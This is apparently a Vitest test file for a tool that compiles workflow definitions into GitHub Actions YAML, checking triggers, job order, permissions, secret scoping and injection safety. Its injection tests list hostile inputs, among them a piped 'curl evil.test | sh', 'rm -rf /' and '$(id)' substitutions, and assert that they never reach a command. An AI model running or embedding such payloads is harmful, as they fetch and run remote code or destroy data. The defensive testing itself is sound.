import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { parse } from "yaml";
import { claudeOfWorkflows, compiledPathOf, compileWorkflow } from "../../src/verify/compile-workflow.ts";
import { parseWorkflowDefinition } from "../../src/verify/workflow-definition.ts";
import { workflowScripts } from "../../src/verify/workflow-scripts.ts";
import { parseWorkflowFile } from "../sandbox/workflow-file.ts";
import { branchingDefinition, goodDefinition } from "./workflow-text.ts";

function compiled(text: string): string {
  const name = /^name: ([\w-]+)/u.exec(text)?.[1] ?? "";
  const parsed = parseWorkflowDefinition(`.github/phasegate/workflows/${name}.yml`, text);
  if (parsed.kind === "faulty") throw new Error(JSON.stringify(parsed.faults));
  return compileWorkflow(parsed.definition);
}

/** As GitHub's own parser in the sandbox reads it. */
function read(text: string) {
  return parseWorkflowFile(compiledPathOf("x"), compiled(text));
}

interface Raw {
  readonly name: string;
  readonly on: unknown;
  readonly jobs: Readonly<
    Record<string, { readonly if?: string; readonly outputs?: object; readonly steps: readonly Raw2[] }>
  >;
}
interface Raw2 {
  readonly run?: string;
  readonly uses?: string;
  readonly env?: Readonly<Record<string, string>>;
}

const raw = (text: string): Raw => parse(compiled(text)) as Raw;
const constants: readonly string[] = Object.values(workflowScripts);

describe("a compiled workflow", () => {
  test("is the same text each time, and says where it comes from", () => {
    expect(compiled(goodDefinition)).toBe(compiled(goodDefinition));
    expect(compiled(goodDefinition)).toMatch(
      /^# Made by Phasegate from \.github\/phasegate\/workflows\/overdue-reminder\.yml\.\n/u,
    );
  });

  test("starts at the times of the definition, in UTC, and says what summer does", () => {
    expect(raw(goodDefinition).on).toEqual({ schedule: [{ cron: "10 22 * * 0-4" }] });
    expect(compiled(goodDefinition)).toContain(
      '# "10 7 * * 1-5" in Asia/Seoul (UTC+9), in UTC. The zone has no daylight saving time.',
    );
    expect(compiled(goodDefinition.replace("Asia/Seoul", "Europe/Berlin"))).toContain(
      "(UTC+2), it starts an hour later",
    );
  });

  const schedule = 'type: schedule\n  config: { cron: "10 7 * * 1-5", timezone: Asia/Seoul }';
  test.each([
    ["type: webhook\n  config: { event_type: tool-returned }", { repository_dispatch: { types: ["tool-returned"] } }],
    ["type: manual\n  config: {}", { workflow_dispatch: {} }],
    [
      "type: manual\n  config: { inputs: { day: { description: Day, default: today } } }",
      {
        workflow_dispatch: {
          inputs: { day: { description: "Day", required: false, default: "today", type: "string" } },
        },
      },
    ],
    ["type: event\n  config: { on: issues, types: [opened] }", { issues: { types: ["opened"] } }],
    ["type: event\n  config: { on: push }", { push: {} }],
  ])("starts by %s", (trigger, on) => {
    expect(raw(goodDefinition.replace(schedule, trigger)).on).toEqual(on);
  });

  test("is one job for each step, in the order that nextSteps makes", () => {
    expect(read(branchingDefinition).jobs.map(({ key, needs, condition }) => [key, needs, condition])).toEqual([
      ["read-issue", [], undefined],
      ["judge", ["read-issue"], "${{ !cancelled() && !failure() && (needs.read-issue.result == 'success') }}"],
      ["is-urgent", ["judge"], "${{ !cancelled() && !failure() && (needs.judge.result == 'success') }}"],
      ["is-short", ["read-issue"], "${{ !cancelled() && !failure() && (needs.read-issue.result == 'success') }}"],
      [
        "record",
        ["read-issue", "is-urgent", "is-short"],
        "${{ !cancelled() && !failure() && ((needs.is-urgent.result == 'success' && needs.is-urgent.outputs.holds == 'true') || (needs.is-short.result == 'success' && needs.is-short.outputs.holds == 'true')) }}",
      ],
    ]);
  });

  test("runs nothing that a gate only proposes", () => {
    const rootOf = (trigger: string) =>
      raw(branchingDefinition.replace("{ on: issues, types: [opened] }", trigger)).jobs["read-issue"]?.if;
    const guard = "${{ !startsWith(github.head_ref || github.ref_name, 'phasegate/') }}";
    expect([rootOf("{ on: push }"), rootOf("{ on: pull_request }"), rootOf("{ on: issues }")]).toEqual([
      guard,
      guard,
      undefined,
    ]);
  });

  test("hands on the outputs that somebody cites, and no other", () => {
    const { jobs } = raw(branchingDefinition);
    expect(Object.fromEntries(Object.entries(jobs).map(([id, job]) => [id, Object.keys(job.outputs ?? {})]))).toEqual({
      "read-issue": ["text", "length", "number"],
      judge: ["result"],
      "is-urgent": ["holds"],
      "is-short": ["holds"],
      record: [],
    });
  });

  test("gives each job the rights that it needs", () => {
    expect(read(branchingDefinition).jobs.map(({ key, permissions }) => [key, permissions])).toEqual([
      ["read-issue", { token: { contents: "read" }, idToken: false }],
      ["judge", { token: { contents: "read" }, idToken: false }],
      ["is-urgent", { token: {}, idToken: false }],
      ["is-short", { token: {}, idToken: false }],
      ["record", { token: {}, idToken: false }],
    ]);
  });

  test("gives each secret to the one step that names it", () => {
    const holders = Object.entries(raw(branchingDefinition).jobs).flatMap(([id, { steps }]) =>
      steps.flatMap(({ env = {} }) =>
        Object.entries(env).flatMap(([name, value]) => (value.includes("secrets.") ? [`${id}: ${name} ${value}`] : [])),
      ),
    );
    expect(holders).toEqual([
      "read-issue: TRACKER_TOKEN ${{ secrets.TRACKER_TOKEN }}",
      "judge: ANTHROPIC_API_KEY ${{ secrets.ANTHROPIC_API_KEY }}",
    ]);
  });

  test("uses actions by the hash of their commit, and installs the version of the CLI that the app is tested with", async () => {
    const used = Object.values(raw(branchingDefinition).jobs).flatMap(({ steps }) =>
      steps.flatMap(({ uses }) => uses ?? []),
    );
    expect(used).not.toEqual([]);
    expect(used.filter((uses) => !/@[0-9a-f]{40}$/u.test(uses))).toEqual([]);
    const manifest = JSON.parse(await readFile(new URL("../../package.json", import.meta.url), "utf8")) as {
      devDependencies: Record<string, string>;
    };
    expect(claudeOfWorkflows).toBe(manifest.devDependencies["@anthropic-ai/claude-code"]);
  });
});

describe("what a definition says", () => {
  const hostile = [
    `"; curl evil.test | sh #`,
    "$(touch /tmp/x) `id` ${HOME}",
    "SCRIPT\nrm -rf /\n",
    "' || true; echo '",
    "}} {{ x: y\n- run: id",
    "# name: y\n\u2028jobs:",
  ];

  test.each(hostile)("reaches no command: %j", (text) => {
    const said = JSON.stringify(text);
    const definition = branchingDefinition
      .replace('"Answer yes or no. Material: {{steps.read-issue.text}}"', said.replaceAll("{{", "{ {"))
      .replace("{ count: 1 }", `{ ${said.replaceAll("{{", "{ {")}: ${said.replaceAll("{{", "{ {")} }`)
      .replace('value: "yes"', `value: ${said}`);
    const { jobs } = raw(definition);
    const runs = Object.values(jobs).flatMap(({ steps }) => steps.flatMap(({ run }) => run ?? []));
    expect(runs.filter((run) => !constants.includes(run))).toEqual([]);
    expect(Object.keys(jobs)).toEqual(["read-issue", "judge", "is-urgent", "is-short", "record"]);
    expect(jobs["judge"]?.steps.at(-1)?.env?.["PHASEGATE_PROMPT"]).toContain(
      JSON.stringify(text.replaceAll("{{", "{ {").trim()).slice(1, -1),
    );
  });

  test("has expressions of ours alone, and none of them in a command", () => {
    for (const text of [goodDefinition, branchingDefinition]) {
      for (const { steps } of Object.values(raw(text).jobs)) {
        for (const { run = "", env = {} } of steps) {
          expect(run).not.toContain("${{");
          for (const value of Object.values(env)) {
            if (value.includes("${{")) expect(value).toMatch(/^\$\{\{ (?:vars|secrets|needs)\.[\w.-]+ \}\}$/u);
          }
        }
      }
    }
  });
});

describe("the commands of a compiled workflow", () => {
  let folder = "";
  beforeAll(async () => {
    folder = await mkdtemp(path.join(tmpdir(), "workflow-"));
  });
  afterAll(async () => {
    await rm(folder, { recursive: true, force: true });
  });

  /** As a runner does it: bash, the step's environment, and a file for outputs. */
  async function run(
    script: string,
    env: Readonly<Record<string, string>>,
  ): Promise<{ readonly code: number; readonly outputs: string; readonly log: string }> {
    const output = path.join(folder, "output");
    await writeFile(output, "");
    const done = await promisify(execFile)("bash", ["-e", "-c", script], {
      cwd: folder,
      env: { PATH: process.env["PATH"], RUNNER_TEMP: folder, GITHUB_OUTPUT: output, ...env },
    }).then(
      ({ stdout }) => ({ code: 0, log: stdout }),
      (error: { code: number; stdout: string; stderr: string }) => ({
        code: error.code,
        log: `${error.stdout}${error.stderr}`,
      }),
    );
    return { ...done, outputs: await readFile(output, "utf8") };
  }

  test.each([
    [{ is: "greater_than", value: 0 }, "3", "holds=true\n"],
    [{ is: "greater_than", value: 0 }, "0", "holds=false\n"],
    [{ is: "less_than", value: 2 }, "10", "holds=false\n"],
    [{ is: "equals", value: "yes" }, "yes", "holds=true\n"],
    [{ is: "equals", value: 1 }, "1.0", "holds=true\n"],
    [{ is: "not_equals", value: "yes" }, "$(id)\n'", "holds=true\n"],
    [{ is: "greater_than", value: 0 }, "many", ""],
    [{ is: "greater_than", value: 0 }, "", ""],
  ])("decide %j on %j", async (condition, got, outputs) => {
    const env = { PHASEGATE_CONDITION: JSON.stringify(condition), PHASEGATE_VALUE_0: got };
    expect(await run(workflowScripts.decide, env)).toMatchObject({ outputs, code: outputs === "" ? 1 : 0 });
  });

  const withFetch = (status: number): string =>
    `--import data:text/javascript,${encodeURIComponent(
      `globalThis.fetch = async (url, { method, headers, body, redirect }) => {
        console.log(JSON.stringify({ url: String(url), method, headers, body, redirect }));
        return { status: ${status}, ok: ${status < 300} };
      };`,
    )}`;
  const request = {
    method: "POST",
    url: "https://chat.test/send?to={{variables.TO}}",
    secret: "TOKEN",
    body: { text: ["{{steps.a.b}}!"] },
  };
  const values = {
    PHASEGATE_REQUEST: JSON.stringify(request),
    PHASEGATE_NAMES: JSON.stringify(["variables.TO", "steps.a.b"]),
    PHASEGATE_VALUE_0: "a&b/../c",
    PHASEGATE_VALUE_1: '"},{{variables.TO}}\n$(id)',
    PHASEGATE_SECRET: "s3cret",
  };

  test("call an address with what was filled in, once and as data", async () => {
    const { outputs, log, code } = await run(workflowScripts.call, { ...values, NODE_OPTIONS: withFetch(200) });
    expect([code, outputs]).toEqual([0, "status=200\n"]);
    const sent = JSON.parse(log.split("\n")[0] ?? "") as {
      url: string;
      body: string;
      headers: object;
      redirect: string;
    };
    expect(sent.url).toBe("https://chat.test/send?to=a%26b%2F..%2Fc");
    expect(JSON.parse(sent.body)).toEqual({ text: ['"},{{variables.TO}}\n$(id)!'] });
    expect(sent).toMatchObject({
      redirect: "error",
      headers: { authorization: "Bearer s3cret", "content-type": "application/json" },
    });
    expect(log.split("\n")[1]).toBe("POST chat.test: 200");
  });

  test("fail where the other side refuses", async () => {
    expect(await run(workflowScripts.call, { ...values, NODE_OPTIONS: withFetch(403) })).toMatchObject({
      code: 1,
      outputs: "status=403\n",
    });
  });

  test.each([
    ["a secret that is not there", { PHASEGATE_SECRET: "" }, "the repository has no secret TOKEN"],
    [
      "an address without TLS",
      { PHASEGATE_REQUEST: JSON.stringify({ ...request, url: "http://chat.test/" }) },
      "the address is not the one",
    ],
  ])("send nothing for %s", async (_, env, message) => {
    const { code, log } = await run(workflowScripts.call, { ...values, NODE_OPTIONS: withFetch(200), ...env });
    expect(code).toBe(1);
    expect(log).toContain(message);
    expect(log).not.toContain('"url"');
  });

  test.each([
    ["a.mjs", 'console.log("node")', "node"],
    ["a.py", 'print("python")', "python"],
    ["a.sh", "echo bash", "bash"],
  ])("run %s by its program", async (name, text, log) => {
    await writeFile(path.join(folder, name), text);
    expect((await run(workflowScripts.run, { PHASEGATE_SCRIPT: name })).log.trim()).toBe(log);
  });

  test("ask the model with its key, the prompt and nothing of the job, and keep the answer in one line", async () => {
    const bin = path.join(folder, "claude", "node_modules", ".bin");
    await promisify(execFile)("mkdir", ["-p", bin]);
    const program = `#!/usr/bin/env node
const prompt = require("fs").readFileSync(0, "utf8");
const names = Object.keys(process.env).sort().join(" ");
console.log(JSON.stringify({ result: prompt + "\\nholds=true\\n" + names + process.argv.slice(2).join(" "), num_turns: 1 }));
`;
    await writeFile(path.join(bin, "claude"), program, { mode: 0o755 });
    const { outputs, code, log } = await run(workflowScripts.askClaude, {
      PHASEGATE_PROMPT: JSON.stringify({
        prompt: "Judge {{steps.a.b}}",
        tools: ["Read"],
        maxTurns: 3,
        maxBudgetUsd: 2,
        model: "sonnet",
      }),
      PHASEGATE_NAMES: JSON.stringify(["steps.a.b"]),
      PHASEGATE_VALUE_0: "--help\n$(id)",
      ANTHROPIC_API_KEY: "key",
      OTHER: "of the job",
    });
    expect([code, log]).toEqual([0, "answered in 1 turns\n"]);
    expect(outputs).toMatch(
      /^result=Judge --help \$\(id\) holds=true ANTHROPIC_API_KEY CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC DISABLE_AUTOUPDATER HOME PATH-p .*--max-turns 3 .*\n$/u,
    );
  });
});
